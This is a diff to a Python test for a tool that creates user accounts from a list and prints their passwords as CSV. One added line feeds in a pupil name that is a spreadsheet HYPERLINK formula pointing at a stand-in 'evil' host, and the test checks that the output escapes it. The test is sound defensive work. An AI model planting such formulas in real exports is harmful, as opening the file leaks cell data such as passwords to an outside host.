@@ -81,12 +81,15 @@ def test_a_whole_class_is_added_from_a_list(tmp_path: Path) -> None:
     assert made.returncode == 0, made.stderr
     passwords = dict(line.split(",") for line in made.stdout.splitlines())
     assert list(passwords) == ["name", "Zoë Öz", "Bob"]
+    pupil = '"=HYPERLINK(""http://evil/""&B2)"\n'
+    formula = run(tmp_path, "accounts", "create-users", "-", typed=pupil).stdout.splitlines()[1]
+    assert formula.startswith("\"'=HYPERLINK(")
     grown = "Ada,admin,a password of her own\nBOB\nZoë Öz\n"
     again = run(tmp_path, "accounts", "create-users", "-", typed=grown)
     assert again.stdout.splitlines() == ["name,password", "Ada,a password of her own"]
     assert "somebody is called BOB already" in again.stderr and again.returncode == 0
     listed = run(tmp_path, "accounts", "list").stdout
-    assert [line.split()[-1] for line in listed.splitlines()[1:]] == ["viewer", "editor", "admin"]
+    assert [line.split()[-1] for line in listed.splitlines()[1:]] == ["viewer", "editor", "viewer", "admin"]
     broken = run(tmp_path, "accounts", "create-users", "-", typed="New\nOther,boss\n")
     assert broken.returncode == 1 and "line 2: a role is one of" in broken.stderr
     assert "New" not in run(tmp_path, "accounts", "list").stdout
